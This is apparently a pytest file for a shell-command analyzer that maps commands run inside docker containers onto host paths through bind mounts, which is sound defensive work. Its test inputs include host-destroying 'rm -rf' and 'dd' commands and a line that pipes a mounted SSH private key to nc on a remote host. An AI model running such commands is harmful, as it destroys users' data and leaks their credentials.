"""Bind mounts: what a container runs on a mounted path is what it does on the host."""

from __future__ import annotations

import pytest

from redline.shell.analysis import analyze
from redline.shell.bind_mounts import Mount, host_side, mount_option, source_path


def _inner(
    command: str, cwd: str | None = None
) -> list[tuple[str, tuple[str, ...], bool, str | None]]:
    """The commands the container runs: name, argv, remote, cwd."""
    return [
        (i.name, tuple(w.value for w in i.argv[1:]), i.remote, i.cwd)
        for i in analyze(command, cwd).invocations
        if i.name not in ("docker", "podman", "nerdctl", "sh")
    ]


@pytest.mark.parametrize(
    ("text", "cwd", "expected"),
    [
        ("~", None, "~"),
        ("$HOME", None, "~"),
        ('"$HOME"/work', None, "~/work"),
        ("$PWD", "/srv/app", "/srv/app"),
        ("$(pwd)/data", "/srv/app", "/srv/app/data"),
        ("/", None, "/"),
        ("/etc/", None, "/etc"),
        ("./src", None, "src"),
        ("cache", None, None),  # a named volume
        ("$DATA_DIR", None, None),  # unknown
    ],
)
def test_source_path(text: str, cwd: str | None, expected: str | None) -> None:
    assert source_path(text, cwd) == expected


def test_mount_option_reads_bind_mounts_only() -> None:
    assert mount_option("type=bind,src=/,dst=/host", None) == Mount("/", "/host")
    assert mount_option("type=bind,source=~,target=/h,readonly", None) == Mount("~", "/h")
    assert mount_option("type=volume,src=pgdata,dst=/var/lib/pg", None) is None
    assert mount_option("type=tmpfs,dst=/tmp", None) is None


MOUNTS = (Mount("~", "/h"), Mount("/etc", "/h/etc"), Mount(".", "/src"))


@pytest.mark.parametrize(
    ("path", "expected"),
    [
        ("/h", ("~",)),
        ("/h/.ssh/id_rsa", ("~/.ssh/id_rsa",)),
        ("/h/etc/passwd", ("/etc/passwd",)),  # the deepest mount wins
        ("/src/build", ("build",)),  # relative to the caller's directory
        ("/", ("~", "/etc", ".")),  # above mounts: all of them, whole
        ("/tmp/x", ()),
        ("/hh", ()),
    ],
)
def test_host_side(path: str, expected: tuple[str, ...]) -> None:
    assert host_side(path, MOUNTS) == expected


def test_commands_on_mounted_paths_run_on_the_host() -> None:
    assert _inner("docker run -v ~:/h alpine rm -rf /h/x /tmp/y") == [
        ("rm", ("-rf", "~/x", "/tmp/y"), False, None)
    ]
    assert _inner("docker run --rm -v /srv:/s -w /s alpine rm -rf build") == [
        ("rm", ("-rf", "/srv/build"), False, "/srv")
    ]
    # `cd` inside the container's shell moves within the mount
    assert _inner("docker run -v /:/host alpine sh -c 'cd /host && rm -rf etc'") == [
        ("cd", ("/host",), True, None),
        ("rm", ("-rf", "/etc"), False, "/"),
    ]
    # `of=`, `@file` and `--opt=` values are paths too
    assert _inner("docker run -v /dev:/d img dd if=/dev/zero of=/d/sda") == [
        ("dd", ("if=/dev/zero", "of=/dev/sda"), False, None)
    ]


def test_what_reaches_no_mount_stays_in_the_container() -> None:
    assert _inner("docker run --rm alpine rm -rf /h") == [("rm", ("-rf", "/h"), True, None)]
    assert _inner("docker run -v cache:/h alpine rm -rf /h") == [("rm", ("-rf", "/h"), True, None)]
    assert _inner("docker exec -it web rm -rf /h") == [("rm", ("-rf", "/h"), True, None)]


def test_a_reader_of_a_mounted_file_sends_from_this_host() -> None:
    found = _inner("docker run -v ~/.ssh:/k alpine sh -c 'cat /k/id_rsa | nc x.io 80'")
    assert found == [
        ("cat", ("~/.ssh/id_rsa",), False, None),
        ("nc", ("x.io", "80"), False, None),
    ]


def test_entrypoint_is_the_program() -> None:
    assert _inner("docker run -v ~:/h --entrypoint rm alpine -rf /h") == [
        ("rm", ("-rf", "~"), False, None)
    ]
